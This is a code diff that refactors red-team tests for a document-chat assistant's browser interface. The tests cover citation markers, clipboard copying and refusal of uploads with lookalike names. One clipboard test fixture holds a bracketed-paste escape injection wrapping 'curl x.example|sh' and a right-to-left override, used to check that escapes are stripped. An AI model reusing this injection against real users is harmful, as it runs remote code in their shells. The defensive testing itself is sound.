@@ -15,9 +15,13 @@ import re
 import time
 import zlib
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
+from browsers import chromium, playwright_api
+from fakes import fake_bot
+from format_files import pdf_from_objects
 from test_redteam import one_sentence
 from test_redteam4 import _served
 from test_redteam9 import _page
@@ -55,39 +59,37 @@ def test_a_documents_own_bracketed_numbers_are_not_citation_markers(tmp_path: Pa
         assert answers and all(sorted(m) == ["1", "2"] for m in live), live
 
 
+def _ask_in_chat(sync_api: Any, page: Any, url: str, question: str) -> Any:
+    """Open the web chat at url in page (waiting up to 60 s for each step), ask question,
+    and return the first answer's row (it may still be streaming)."""
+    page.set_default_timeout(60_000)
+    page.goto(url)
+    box = page.locator("#question textarea")
+    sync_api.expect(box).to_be_editable()
+    box.fill(question)
+    box.press("Enter")
+    return page.locator("#chat .bot-row").first
+
+
 def test_in_a_browser_a_documents_own_bracket_opens_no_source(tmp_path: Path) -> None:
     # The same in a real browser: the answer shows two live markers, one per sentence (the
     # forged sentence's "[1] [2]" is plain text), and the real [2] opens the official
     # document's passage.
-    chromium = Path("/usr/bin/chromium")
-    if not chromium.exists():
-        pytest.skip("Chromium is not installed at /usr/bin/chromium")
-    sync_api = pytest.importorskip("playwright.sync_api")
+    sync_api = playwright_api()
     documents = {"official.txt": _OFFICIAL, "forged.txt": _FORGED}
-    with _served(tmp_path, documents=documents) as chat, sync_api.sync_playwright() as p:
-        browser = p.chromium.launch(
-            executable_path=str(chromium), args=["--headless", "--no-sandbox", "--disable-gpu"]
-        )
-        try:
-            page = browser.new_page()
-            page.set_default_timeout(60_000)
-            page.goto(chat.url)
-            box = page.locator("#question textarea")
-            sync_api.expect(box).to_be_editable()
-            box.fill("Is the zircon vault certified safe, and when does the zircon vault open?")
-            box.press("Enter")
-            answer = page.locator("#chat .bot-row").first
-            sync_api.expect(answer).to_contain_text("regulator [1] [2].")
-            sync_api.expect(page.locator("#chat .bot-row").last).not_to_contain_text("▍")
-            markers = answer.locator(".cite-ref")
-            sync_api.expect(markers).to_have_count(2)
-            assert markers.all_inner_texts() == ["[1]", "[2]"]
-            markers.nth(1).click()
-            opened = page.locator("#chat details.citation[open]")
-            sync_api.expect(opened).to_have_count(1)
-            sync_api.expect(opened).to_contain_text("official.txt")
-        finally:
-            browser.close()
+    with _served(tmp_path, documents=documents) as chat, chromium(sync_api) as browser:
+        page = browser.new_page()
+        question = "Is the zircon vault certified safe, and when does the zircon vault open?"
+        answer = _ask_in_chat(sync_api, page, chat.url, question)
+        sync_api.expect(answer).to_contain_text("regulator [1] [2].")
+        sync_api.expect(page.locator("#chat .bot-row").last).not_to_contain_text("▍")
+        markers = answer.locator(".cite-ref")
+        sync_api.expect(markers).to_have_count(2)
+        assert markers.all_inner_texts() == ["[1]", "[2]"]
+        markers.nth(1).click()
+        opened = page.locator("#chat details.citation[open]")
+        sync_api.expect(opened).to_have_count(1)
+        sync_api.expect(opened).to_contain_text("official.txt")
 
 
 def test_copy_puts_no_terminal_escape_on_the_clipboard(tmp_path: Path) -> None:
@@ -96,35 +98,20 @@ def test_copy_puts_no_terminal_escape_on_the_clipboard(tmp_path: Path) -> None:
     # terminal's bracketed paste) pasted into a shell would run whatever followed it, and a
     # right-to-left override reordered the pasted text. The clipboard now holds what the
     # page shows (a real browser, its real clipboard).
-    chromium = Path("/usr/bin/chromium")
-    if not chromium.exists():
-        pytest.skip("Chromium is not installed at /usr/bin/chromium")
-    sync_api = pytest.importorskip("playwright.sync_api")
+    sync_api = playwright_api()
     ledger = "The zircon vault code is \x1b[201~curl x.example|sh\x1b[200~ and \u202eexe.txt.\n"
     with (
         _served(tmp_path, documents={"ledger.txt": ledger}) as chat,
-        sync_api.sync_playwright() as p,
+        chromium(sync_api) as browser,
     ):
-        browser = p.chromium.launch(
-            executable_path=str(chromium), args=["--headless", "--no-sandbox", "--disable-gpu"]
-        )
-        try:
-            context = browser.new_context()
-            context.grant_permissions(["clipboard-read", "clipboard-write"])
-            page = context.new_page()
-            page.set_default_timeout(60_000)
-            page.goto(chat.url)
-            box = page.locator("#question textarea")
-            sync_api.expect(box).to_be_editable()
-            box.fill("What is the zircon vault code?")
-            box.press("Enter")
-            answer = page.locator("#chat .bot-row").first
-            sync_api.expect(answer).to_contain_text("[U+001B][201~curl")
-            answer.get_by_role("button", name="Copy").click()
-            sync_api.expect(answer.get_by_role("button", name="Copied")).to_be_visible()
-            copied = page.evaluate("() => navigator.clipboard.readText()")
-        finally:
-            browser.close()
+        context = browser.new_context()
+        context.grant_permissions(["clipboard-read", "clipboard-write"])
+        page = context.new_page()
+        answer = _ask_in_chat(sync_api, page, chat.url, "What is the zircon vault code?")
+        sync_api.expect(answer).to_contain_text("[U+001B][201~curl")
+        answer.get_by_role("button", name="Copy").click()
+        sync_api.expect(answer.get_by_role("button", name="Copied")).to_be_visible()
+        copied = page.evaluate("() => navigator.clipboard.readText()")
     assert "[U+001B][201~curl x.example|sh[U+001B][200~ and [U+202E]exe.txt" in copied, copied
     assert "\x1b" not in copied and "\u202e" not in copied, copied
     assert "\n\nSources:\n[1] ledger.txt" in copied
@@ -178,16 +165,10 @@ def test_an_upload_named_like_another_document_is_refused(tmp_path: Path) -> Non
 
 
 def test_a_refusal_for_a_lookalike_name_is_one_sentence(tmp_path: Path) -> None:
-    from fakes import FakeEmbedder
-
-    from assistant import Assistant, Settings
     from assistant.errors import InputError
 
+    bot = fake_bot(tmp_path, {_GENUINE: "The annual dividend is four dollars.\n"})
     docs = tmp_path / "docs"
-    docs.mkdir()
-    (docs / _GENUINE).write_text("The annual dividend is four dollars.\n", encoding="utf-8")
-    settings = Settings(index_dir=tmp_path / "index", show_progress=False)
-    bot = Assistant.from_folder(docs, settings=settings, embedder=FakeEmbedder())
     # The Python API refuses it too (the check is the collection's, under every route).
     try:
         bot.add_document(_LOOKALIKE_NAMES[0], b"The annual dividend was cancelled.\n")
@@ -377,13 +358,7 @@ def _image_pdf(side: int, *, inline: bool = False, pages: int = 1, rows: int = 0
         b"<< /Type /XObject /Subtype /Image %s /Length %d >>\nstream\n%s\nendstream"
         % (head, len(data), data),
     ]
-    out, offsets = b"%PDF-1.4\n", []
-    for n, body in enumerate(objects, 1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
-    xref = len(out)
-    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
-    return out + b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
+    return pdf_from_objects(objects)
 
 
 @pytest.mark.parametrize("inline", [False, True])
@@ -440,13 +415,7 @@ def _pattern_pdf(step: float) -> bytes:
         b"/XStep %g /YStep %g /Resources << >> /Length %d >>\nstream\n%s\nendstream"
         % (step, step, len(cell), cell),
     ]
-    out, offsets = b"%PDF-1.4\n", []
-    for n, body in enumerate(objects, 1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
-    xref = len(out)
-    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
-    return out + b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
+    return pdf_from_objects(objects)
 
 
 def test_a_page_that_takes_minutes_to_draw_is_stopped_and_refused(
